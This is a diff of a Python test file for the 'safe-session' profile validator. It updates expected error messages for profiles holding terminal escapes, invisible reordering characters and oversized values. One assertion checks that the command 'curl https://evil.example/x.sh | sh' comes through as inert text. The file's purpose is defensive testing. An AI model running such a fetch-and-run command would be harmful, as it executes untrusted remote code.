@@ -25,7 +25,7 @@ CMD = venv_bin("safe-session")
 # Each refused profile and the exact lines `profile validate` prints for it (run from CORPUS).
 REFUSED: dict[str, list[str]] = {
     "ansi.toml": [
-        "ansi.toml:2: practice.name: contains a terminal escape character (U+001B, at character 9); profile text must be plain text",
+        "ansi.toml:2:17: practice.name: contains a terminal escape character (U+001B, at character 9); profile text must be plain text",
     ],
     "bad-domains.toml": [
         'bad-domains.toml:3: platform.domains[0]: write the bare host name, like "clientsecure.me", without "https://": nothing in a profile is opened or fetched',
@@ -44,24 +44,24 @@ REFUSED: dict[str, list[str]] = {
         'bad-language.toml:1: language: "de" is not available: safe-session\'s text exists only in English ("en") so far',
     ],
     "bidi.toml": [
-        "bidi.toml:2: practice.name: contains an invisible character that reorders text (U+202E, at character 5); profile text must be plain text",
-        "bidi.toml:5: platform.name: contains an invisible character that reorders text (U+2066, at character 7); profile text must be plain text",
+        "bidi.toml:2:13: practice.name: contains an invisible character that reorders text (U+202E, at character 5); profile text must be plain text",
+        "bidi.toml:5:15: platform.name: contains an invisible character that reorders text (U+2066, at character 7); profile text must be plain text",
     ],
     "c0.toml": [
-        "c0.toml:2: after_step[0].text: contains a control character (U+0000, at character 8); profile text must be plain text",
-        "c0.toml:3: after_step[0].why: contains a control character (U+007F, at character 4); profile text must be plain text",
+        "c0.toml:2:16: after_step[0].text: contains a control character (U+0000, at character 8); profile text must be plain text",
+        "c0.toml:3:11: after_step[0].why: contains a control character (U+007F, at character 4); profile text must be plain text",
     ],
     "c1.toml": [
-        "c1.toml:2: confirm[0].text: contains a terminal escape character (U+009B, at character 13); profile text must be plain text",
+        "c1.toml:2:21: confirm[0].text: contains a terminal escape character (U+009B, at character 13); profile text must be plain text",
     ],
     "deep-arrays.toml": [
-        "deep-arrays.toml:2: values are nested more than 10 levels deep",
+        "deep-arrays.toml:2:19: platform.domains: values are nested more than 10 levels deep",
     ],
     "deep-but-parseable.toml": [
         "deep-but-parseable.toml:2: platform.domains[0]: expected text in quotes, got a list",
     ],
     "deep-tables.toml": [
-        "deep-tables.toml:2: values are nested more than 10 levels deep",
+        "deep-tables.toml:2:28: practice.name.a.a.a.a: values are nested more than 10 levels deep",
     ],
     "duplicate-keys.toml": [
         "duplicate-keys.toml:4: practice.name: is set twice (first on line 2); set it once",
@@ -81,18 +81,21 @@ REFUSED: dict[str, list[str]] = {
         "hostile-keys.toml:3: practice.[bold]key[/bold]: unknown key (not one a profile may set)",
     ],
     "huge-number.toml": [
-        "huge-number.toml:2: holds a number with far too many digits",
+        "huge-number.toml:2:16: thresholds.browser_tabs: holds a number with far too many digits",
     ],
     "huge-string.toml": [
-        "huge-string.toml:2: practice.name: is 5,000 characters long; at most 100 are allowed",
-        "huge-string.toml:5: confirm[0].text: is 20,000 characters long; at most 300 are allowed",
+        "huge-string.toml:2:8: practice.name: holds a text of more than 4,000 characters; no text in this file is that long",
+    ],
+    "invisible.toml": [
+        "invisible.toml:3:9: practice.name: contains an invisible character that reorders text (U+200F, at character 1); profile text must be plain text",
+        "invisible.toml:4:16: practice.contact: contains an invisible character (U+200B, at character 5); profile text must be plain text",
     ],
     "invalid-utf8.toml": [
         "invalid-utf8.toml:3: is not valid UTF-8 text",
     ],
     "newline.toml": [
         "newline.toml:2: practice.name: contains a line break (U+000A, at character 9); write it on one line",
-        "newline.toml:4: practice.contact: contains a control character (U+0009, at character 4); profile text must be plain text",
+        "newline.toml:4:15: practice.contact: contains a control character (U+0009, at character 4); profile text must be plain text",
     ],
     "not-toml.toml": [
         "not-toml.toml:2: invalid TOML: Expected '=' after a key in a key/value pair",
@@ -101,10 +104,10 @@ REFUSED: dict[str, list[str]] = {
         'off-and-stricter.toml:3: checks.stricter[0]: "network.wifi" is also switched off in checks.off; choose one',
     ],
     "osc-title.toml": [
-        "osc-title.toml:2: platform.name: contains a terminal escape character (U+001B, at character 7); profile text must be plain text",
+        "osc-title.toml:2:15: platform.name: contains a terminal escape character (U+001B, at character 7); profile text must be plain text",
     ],
     "osc52.toml": [
-        "osc52.toml:3: practice.contact: contains a terminal escape character (U+001B, at character 8); profile text must be plain text",
+        "osc52.toml:3:19: practice.contact: contains a terminal escape character (U+001B, at character 8); profile text must be plain text",
     ],
     "privacy-off.toml": [
         'privacy-off.toml:3: checks.off[0]: "apps.remote_access" can never be switched off by a profile: it looks for remote-access tools that would let someone see or control this computer. It can be made stricter instead',
@@ -164,7 +167,7 @@ REFUSED: dict[str, list[str]] = {
     ],
 }
 # Accepted profiles whose text must come through exactly and inertly.
-SHOWN = ("markup.toml", "invisible.toml", "longest.toml", "empty.toml", "crlf.toml", "bom.toml")
+SHOWN = ("markup.toml", "rtl.toml", "longest.toml", "empty.toml", "crlf.toml", "bom.toml")
 
 
 def run(
@@ -265,14 +268,21 @@ def test_markup_is_text_not_formatting() -> None:
     assert "[@click=app.quit]Yes[/]" in valid and "`curl https://evil.example/x.sh | sh`" in valid
 
 
-def test_invisible_marks_are_visible_escapes_on_the_terminal_and_kept_in_json() -> None:
-    out = run("check", "--plain", "--only", "room", "--profile", "invisible.toml").stdout
-    assert "Profile: \\u200fעיסוק טיפולי\\u200f Café 日本 🎧" in out
-    assert "Contact: Zero\\u200bwidth, BOM\\ufeff" in out
-    data = json.loads(
-        run("check", "--json", "--only", "room", "--profile", "invisible.toml").stdout
-    )
-    assert data["profile"]["contact"].startswith("Zero\u200bwidth, BOM\ufeff, joiner 👩\u200d⚕️")
+def test_right_to_left_text_is_kept_and_invisible_marks_in_a_file_name_are_shown(
+    tmp_path: Path,
+) -> None:
+    """Right-to-left text is ordinary text. The marks that reorder or hide text are refused
+    inside a profile (invisible.toml); in its file name they are shown as escapes."""
+    out = run("check", "--plain", "--only", "room", "--profile", "rtl.toml").stdout
+    assert "Profile: עיסוק טיפולי Café 日本 🎧\n" in out
+    assert "هل أنت وحدك في الغرفة؟" in out
+    stem = "\u200fעיסוק\u200f zero\u200bwidth BOM\ufeff ALM\u061c"
+    (tmp_path / f"{stem}.toml").write_text('[[confirm]]\ntext = "Door closed?"\n')
+    path = str(tmp_path / f"{stem}.toml")
+    plain = run("check", "--plain", "--only", "room", "--profile", path).stdout
+    assert "Profile: \\u200fעיסוק\\u200f zero\\u200bwidth BOM\\ufeff ALM\\u061c\n" in plain
+    data = json.loads(run("check", "--json", "--only", "room", "--profile", path).stdout)
+    assert data["profile"]["name"] == stem
 
 
 def test_a_file_name_is_profile_text_too(tmp_path: Path) -> None:
